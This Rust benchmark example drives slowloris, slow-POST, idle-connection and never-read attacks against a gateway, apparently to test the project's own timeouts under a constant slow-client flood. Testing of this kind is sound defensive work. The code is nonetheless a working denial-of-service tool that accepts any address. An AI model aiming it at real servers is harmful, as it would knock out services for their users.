//! Slow-client attack driver for `benches/attack.sh`: holds thousands of idle connections,
//! slowloris connections (on the first request head and on later ones), slow POSTs and
//! clients that never read, all at once, against a gateway listener, for a set time. Every
//! connection the gateway closes is opened again, so the pressure stays constant.
//!
//! ```text
//! cargo run --release --example attack -- ADDR SECONDS [idle=2000] [loris_first=100]
//!     [loris_later=100] [slow_post=50] [no_read=50] [path=/api/v1/item]
//! ```
//!
//! Prints `ATTACK ready` once every connection is open, then at the end one `ATTACK` line per
//! kind: connections opened, closed by the gateway, and answers read (slowloris-later only).

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, sleep_until};

#[derive(Default)]
struct Counts {
    opened: AtomicU64,
    closed: AtomicU64,
    answers: AtomicU64,
    failed_connects: AtomicU64,
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Kind {
    Idle,
    LorisFirst,
    LorisLater,
    SlowPost,
    NoRead,
}

const KINDS: [Kind; 5] = [
    Kind::Idle,
    Kind::LorisFirst,
    Kind::LorisLater,
    Kind::SlowPost,
    Kind::NoRead,
];

#[tokio::main(flavor = "multi_thread", worker_threads = 1)]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let addr: SocketAddr = args
        .first()
        .and_then(|a| a.parse().ok())
        .expect("usage: attack ADDR SECONDS [kind=count...] [path=/p]");
    let seconds: u64 = args.get(1).and_then(|s| s.parse().ok()).expect("SECONDS");
    let mut counts = [2000usize, 100, 100, 50, 50];
    let mut path = "/api/v1/item".to_owned();
    for kv in &args[2..] {
        let (k, v) = kv.split_once('=').expect("kind=count");
        let i = match k {
            "idle" => 0,
            "loris_first" => 1,
            "loris_later" => 2,
            "slow_post" => 3,
            "no_read" => 4,
            "path" => {
                path = v.to_owned();
                continue;
            }
            _ => panic!("unknown {k}"),
        };
        counts[i] = v.parse().expect("count");
    }
    let path: &'static str = Box::leak(path.into_boxed_str());
    let end = Instant::now() + Duration::from_secs(seconds);
    let stats: Vec<Arc<Counts>> = KINDS.iter().map(|_| Arc::default()).collect();
    let mut tasks = Vec::new();
    for (i, kind) in KINDS.iter().enumerate() {
        for n in 0..counts[i] {
            let stats = stats[i].clone();
            let kind = *kind;
            tasks.push(tokio::spawn(async move {
                // Spread the opening over a second, as a real flood would arrive.
                sleep(Duration::from_micros((n as u64 * 397) % 1_000_000)).await;
                while Instant::now() < end {
                    let Ok(Ok(sock)) =
                        tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(addr))
                            .await
                    else {
                        stats.failed_connects.fetch_add(1, Ordering::Relaxed);
                        sleep(Duration::from_millis(200)).await;
                        continue;
                    };
                    stats.opened.fetch_add(1, Ordering::Relaxed);
                    let closed = tokio::select! {
                        closed = attack(kind, sock, path, &stats) => closed,
                        _ = sleep_until(end) => false,
                    };
                    if closed {
                        stats.closed.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }));
        }
    }
    // Ready once every connection has been opened once (or failed to).
    let total: u64 = counts.iter().sum::<usize>() as u64;
    let ready_by = Instant::now() + Duration::from_secs(10);
    while Instant::now() < ready_by {
        let started: u64 = stats
            .iter()
            .map(|s| s.opened.load(Ordering::Relaxed) + s.failed_connects.load(Ordering::Relaxed))
            .sum();
        if started >= total {
            break;
        }
        sleep(Duration::from_millis(100)).await;
    }
    println!("ATTACK ready");
    for t in tasks {
        let _ = t.await;
    }
    for (kind, s) in KINDS.iter().zip(&stats) {
        println!(
            "ATTACK kind={kind:?} opened={} closed_by_gateway={} answers={} failed_connects={}",
            s.opened.load(Ordering::Relaxed),
            s.closed.load(Ordering::Relaxed),
            s.answers.load(Ordering::Relaxed),
            s.failed_connects.load(Ordering::Relaxed),
        );
    }
}

/// One connection's attack until the gateway closes it (true) or the run ends.
async fn attack(kind: Kind, mut sock: TcpStream, path: &str, stats: &Counts) -> bool {
    let head = format!("GET {path} HTTP/1.1\r\nhost: localhost\r\nuser-agent: attack\r\n\r\n");
    match kind {
        Kind::Idle => read_until_closed(&mut sock).await,
        Kind::LorisFirst => drip(&mut sock, head.as_bytes(), Duration::from_millis(1000)).await,
        Kind::LorisLater => loop {
            // One whole request and its answer, then the next head byte by byte.
            if sock.write_all(head.as_bytes()).await.is_err() {
                return true;
            }
            let mut buf = [0u8; 4096];
            match sock.read(&mut buf).await {
                Ok(n) if n > 0 => {
                    stats.answers.fetch_add(1, Ordering::Relaxed);
                }
                _ => return true,
            }
            if drip(&mut sock, head.as_bytes(), Duration::from_millis(1000)).await {
                return true;
            }
        },
        Kind::SlowPost => {
            let post = format!(
                "POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n"
            );
            if sock.write_all(post.as_bytes()).await.is_err() {
                return true;
            }
            // One body byte every 2 s: always some progress, never the end.
            drip(&mut sock, &[b'a'; 1_000_000], Duration::from_millis(2000)).await
        }
        Kind::NoRead => {
            // Pipelined requests whose answers are never read: the gateway's writes back up.
            let many = head.repeat(64);
            loop {
                match tokio::time::timeout(Duration::from_secs(1), sock.write_all(many.as_bytes()))
                    .await
                {
                    Ok(Ok(())) => {}
                    Ok(Err(_)) => return true,
                    // Our send buffer is full as well: just wait for the close.
                    Err(_) => return wait_closed_without_reading(&sock).await,
                }
            }
        }
    }
}

/// Sends `bytes` one at a time, `every` apart; true once the gateway closes.
async fn drip(sock: &mut TcpStream, bytes: &[u8], every: Duration) -> bool {
    for b in bytes {
        if sock.write_all(&[*b]).await.is_err() {
            return true;
        }
        let mut buf = [0u8; 1024];
        match tokio::time::timeout(every, sock.read(&mut buf)).await {
            // The gateway answered (a 408) or closed: the connection is done.
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => return read_until_closed(sock).await,
            Err(_) => {}
        }
    }
    false
}

async fn read_until_closed(sock: &mut TcpStream) -> bool {
    let mut buf = [0u8; 4096];
    loop {
        match sock.read(&mut buf).await {
            Ok(0) | Err(_) => return true,
            Ok(_) => {}
        }
    }
}

/// Polls for the peer's close without reading data (a reset or an error means closed).
async fn wait_closed_without_reading(sock: &TcpStream) -> bool {
    loop {
        if let Ok(Some(_)) = sock.take_error() {
            return true;
        }
        // A byte of the next head: refused with an error once the gateway has reset us.
        match sock.try_write(b"G") {
            Err(e) if e.kind() != std::io::ErrorKind::WouldBlock => return true,
            _ => {}
        }
        sleep(Duration::from_millis(500)).await;
    }
}
